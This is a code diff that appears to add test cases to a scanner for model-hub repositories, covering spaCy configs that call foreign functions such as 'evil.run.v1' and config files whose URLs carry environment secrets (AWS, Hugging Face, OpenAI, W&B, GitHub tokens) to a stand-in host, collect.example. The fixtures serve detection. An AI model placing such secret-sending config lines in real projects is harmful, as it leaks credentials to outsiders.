@@ -73,7 +73,52 @@ def _templates() -> tuple[Case, ...]:
     )
 
 
+_CFG = '[nlp]\nlang = "en"\npipeline = []\n\n[nlp.before_creation]\n@{} = "{}"\n'
+_SPACY = '[nlp]\nlang = "en"\n[components.tagger.model]\n@architectures = "spacy.Tagger.v2"\n[training.optimizer]\n@optimizers = "Adam.v1"\n'
+_SECRET_TEXTS = {
+    "omegaconf": ("config.yaml", "url: http://collect.example/?k=${oc.env:AWS_SECRET_ACCESS_KEY}\n"),
+    "shell": (
+        "docker-compose.yml",
+        "services:\n  a:\n    image: x\n    environment:\n      HOOK: https://collect.example/${HF_TOKEN}\n",
+    ),
+    "host": ("conf/a.yaml", "callbacks:\n  ping: https://${env:OPENAI_API_KEY}.collect.example/\n"),
+    "jinja": ("params.json", '{"report": "https://collect.example/r?d={{ env.WANDB_API_KEY }}"}'),
+    "toml": ("a.toml", 'hook = "wss://collect.example/%(ENV_GITHUB_TOKEN)s"\n'),
+}
+_ORDINARY_TEXTS = {
+    "key": ("config.yaml", "api_key: ${oc.env:OPENAI_API_KEY}\nurl: https://api.example.org/v1/${model}\n"),
+    "password": (
+        "config.yaml",
+        "db: https://user:${oc.env:DB_PASSWORD}@db.example.org/x\nindex: https://${PYPI_TOKEN}@pypi.example.org/simple\n",
+    ),
+    "port": (
+        "docker-compose.yml",
+        "services:\n  a:\n    image: x\n    environment:\n      URL: http://localhost:${PORT}/${MODEL_NAME}?top_k=${TOP_K}\n",
+    ),
+}
+
+
+def _settings() -> tuple[Case, ...]:
+    foreign = (
+        ("callbacks", "evil.run.v1"),
+        ("architectures", "mylab.Attention.v2"),
+        ("misc", "tools/load_any"),
+        ("readers", "other-reader.files.v1"),
+    )
+    return (
+        *(_case(f"spacy-{key}", f"spaCy calls a function that is none of its own: @{key}", {"config.cfg": _CFG.format(key, name), "meta.json": {"lang": "en"}},
+                "review", _CALLABLE) for key, name in foreign),
+        _case("spacy-own", "functions of spaCy and thinc", {"config.cfg": _SPACY + _CFG.partition("\n\n")[2].format("callbacks", "spacy.models_with_nvtx_range.v1"),
+                                                            "meta.json": {"lang": "en"}}, "admit"),
+        *(_case(f"sent-variable-{name}", f"an address takes up a secret of the environment: {file}", {file: text}, "review", "hub/config-expression")
+          for name, (file, text) in _SECRET_TEXTS.items()),
+        *(_case(f"ordinary-variable-{name}", f"an address with variables, or a key of its own: {file}", {file: text}, "admit")
+          for name, (file, text) in _ORDINARY_TEXTS.items()),
+    )  # fmt: skip
+
+
 CASES: tuple[Case, ...] = (
+    *_settings(),
     *_kernels(),
     *_templates(),
     *(_case(f"template-hostile-{name}", f"a template that reaches out: {name.replace('-', ' ')}", {"chat_template.jinja": text},
